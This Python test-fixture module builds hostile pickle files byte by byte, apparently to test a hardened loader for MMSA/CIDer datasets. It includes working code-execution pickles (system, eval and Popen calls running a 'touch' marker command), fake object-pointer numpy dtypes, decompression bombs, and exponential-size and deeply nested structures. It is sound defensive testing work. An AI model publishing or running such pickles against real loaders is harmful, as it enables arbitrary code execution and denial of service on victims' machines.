"""Hand-assembled hostile pickles (no real callables are pickled), one builder per attack class.

Each builder returns the bytes of a file an attacker could publish as an MMSA/CIDer data file.
They follow what an unrestricted or numpy-trusting loader would do with them: run code, read
object pointers from file bytes, allocate gigabytes, hash or print exponentially large
structures, or recurse without end.
"""

from __future__ import annotations

import bz2
import struct
import zlib
from collections.abc import Callable


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _int(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


HEAD = b"\x80\x04"
SPLITS = b"}" + _u("train")  # a dict under construction, key 'train' pushed


def _dtype(descr: str, flags: int, order: str = "<") -> bytes:
    """A numpy dtype with a hand-written BUILD state (flags 63 claim an object dtype)."""
    state = b"(" + b"K\x03" + _u(order) + b"NNN" + _int(-1) + _int(-1) + _int(flags) + b"t"
    return _global("numpy", "dtype") + _u(descr) + b"\x89\x88\x87R" + state + b"b"


def _reconstructed(dtype: bytes, shape: int, data: bytes) -> bytes:
    """ndarray via _reconstruct + BUILD (1, (shape,), dtype, False, data)."""
    proto = _global("numpy.core.multiarray", "_reconstruct") + _global("numpy", "ndarray")
    proto += b"K\x00\x85C\x01b\x87R"
    data_op = b"C" + bytes([len(data)]) + data
    return (
        proto
        + b"(K\x01"
        + b"J"
        + struct.pack("<i", shape)
        + b"\x85"
        + dtype
        + b"\x89"
        + (data_op + b"tb")
    )


def _file(value: bytes) -> bytes:
    return HEAD + SPLITS + value + b"s."


def object_flags_array() -> bytes:
    """'f8' whose state claims an object dtype; array data = a fake PyObject pointer."""
    return _file(_reconstructed(_dtype("f8", 63), 1, b"\x41" * 8))


def object_flags_scalar() -> bytes:
    """numpy scalar of a dtype whose state claims object: would dereference file bytes."""
    return _file(
        _global("numpy.core.multiarray", "scalar") + _dtype("i8", 63) + b"C\x08" + b"\x41" * 8
        + b"\x86R"
    )  # fmt: skip


def object_flags_frombuffer() -> bytes:
    """Protocol-5 style ``_frombuffer(buf, dtype, shape, order)`` with an object-flagged dtype."""
    return _file(
        _global("numpy.core.numeric", "_frombuffer") + b"(" + b"C\x08" + b"\x41" * 8
        + _dtype("f8", 63) + b"K\x01\x85" + _u("C") + b"tR"
    )  # fmt: skip


def object_dtype_with_raw_bytes() -> bytes:
    """An honest object dtype ('O8') whose array data is bytes instead of a list of items."""
    return _file(_reconstructed(_dtype("O8", 63, "|"), 1, b"\x41" * 8))


def declared_huge_joblib_array(compress: bool) -> bytes:
    """A joblib wrapper declaring 2**31 float64s (16 GiB) in a file of a few hundred bytes."""
    state = (
        b"}(" + _u("subclass") + _global("numpy", "ndarray") + _u("shape")
        + b"\x8a\x05" + (1 << 31).to_bytes(5, "little") + b"\x85" + _u("order") + _u("C")
        + _u("dtype") + _dtype("f8", 0) + _u("allow_mmap") + b"\x89u"
    )  # fmt: skip
    wrapper = _global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    body = _file(wrapper) + b"\x00" * 64
    return zlib.compress(body) if compress else body


def bytearray_of_size() -> bytes:
    """``bytearray(4_000_000_000)``: 4 GB from a few bytes."""
    return _file(_global("builtins", "bytearray") + b"\x8a\x05" + (4 * 10**9).to_bytes(5, "little")
                 + b"\x85R")  # fmt: skip


def declared_binbytes8(length: int = 1 << 40) -> bytes:
    """BINBYTES8 declaring 1 TiB, bz2-compressed (no size known up front)."""
    return bz2.compress(_file(b"\x8e" + struct.pack("<Q", length) + b"\x00" * 16))


def bz2_bomb(megabytes: int = 200) -> bytes:
    """BINBYTES8 really holding ``megabytes`` MB of zeros, bz2-compressed to a few KB."""
    n = megabytes << 20
    comp = bz2.BZ2Compressor(9)
    out = [comp.compress(HEAD + SPLITS + b"\x8e" + struct.pack("<Q", n))]
    zeros = b"\x00" * (1 << 20)
    for _ in range(megabytes):
        out.append(comp.compress(zeros))
    out.append(comp.compress(b"s."))
    out.append(comp.flush())
    return b"".join(out)


def shared_nested_lists(levels: int = 3, width: int = 1000) -> bytes:
    """A ``text_bert`` of ``width ** levels`` ints through memo references (~6 KB file)."""
    out = HEAD + SPLITS + b"}" + _u("text_bert")
    for level in range(levels):
        items = b"K\x01" * width if level == 0 else (b"h" + bytes([level - 1])) * width
        out += b"]\x94(" + items + b"e" + (b"0" if level < levels - 1 else b"")
    return out + b"s" + b"s."


def _doubling_tuples(depth: int) -> bytes:
    """Memo i+1 = (memo i, memo i): a tuple whose tree size is 2**depth (nothing left pushed)."""
    out = b"K\x00\x940"
    for i in range(depth):
        out += b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x940"
    return out


def tuple_dict_keys(depth: int = 40) -> bytes:
    """A dict key built from tuples sharing their halves: hashing it is 2**depth work."""
    return HEAD + b"}" + _doubling_tuples(depth) + b"h" + bytes([depth]) + b"K\x00s."


def shared_tuples_in_value(depth: int = 60) -> bytes:
    """A split whose value's repr (or a naive walk) is 2**depth long."""
    return HEAD + SPLITS + _doubling_tuples(depth) + b"h" + bytes([depth]) + b"s."


def deep_nesting(depth: int = 200_000) -> bytes:
    """Lists nested 200k deep (recursion in any recursive walker or repr)."""
    return HEAD + SPLITS + b"]" * depth + b"a" * (depth - 1) + b"s."


def huge_int() -> bytes:
    """A 1 MB integer (printing it in decimal is quadratic)."""
    n = 1 << 20
    return _file(b"\x8b" + struct.pack("<I", n) + b"\x7f" * n)


def many_objects(count: int = 2_000_000) -> bytes:
    """Millions of empty lists from one byte each (memory grows ~70x the file)."""
    return HEAD + SPLITS + b"(" + b"]" * count + b"ls."


def code_execution_reduce(marker: str) -> bytes:
    """The classic: posix.system via GLOBAL + REDUCE."""
    return _file(_global("posix", "system") + _u(f"touch {marker}") + b"\x85R")


def code_execution_inst(marker: str) -> bytes:
    """INST opcode (protocol 0): os.system instantiated with an argument."""
    return b"(dp0\nS'train'\np1\n(S'touch " + marker.encode() + b"'\nios\nsystem\np2\ns."


def code_execution_builtins_eval(marker: str) -> bytes:
    code = f"open({marker!r}, 'w').write('x')"
    return _file(_global("builtins", "eval") + _u(code) + b"\x85R")


def code_execution_newobj_ex(marker: str) -> bytes:
    return _file(_global("subprocess", "Popen") + b"(" + _u("touch") + _u(marker) + b"l\x85}\x92")


def attacks(marker: str) -> dict[str, Callable[[], bytes]]:
    """Every attack by name (the marker path is what a successful code execution creates)."""
    return {
        "object_flags_array": object_flags_array,
        "object_flags_scalar": object_flags_scalar,
        "object_flags_frombuffer": object_flags_frombuffer,
        "object_dtype_with_raw_bytes": object_dtype_with_raw_bytes,
        "joblib_huge_array": lambda: declared_huge_joblib_array(False),
        "joblib_huge_array_zlib": lambda: declared_huge_joblib_array(True),
        "bytearray_of_size": bytearray_of_size,
        "binbytes8_in_bz2": declared_binbytes8,
        "bz2_bomb": bz2_bomb,
        "shared_nested_lists": shared_nested_lists,
        "tuple_dict_keys": tuple_dict_keys,
        "shared_tuples": shared_tuples_in_value,
        "deep_nesting": deep_nesting,
        "huge_int": huge_int,
        "many_objects": lambda: many_objects(400_000),
        "reduce_system": lambda: code_execution_reduce(marker),
        "inst_system": lambda: code_execution_inst(marker),
        "eval": lambda: code_execution_builtins_eval(marker),
        "newobj_ex": lambda: code_execution_newobj_ex(marker),
    }
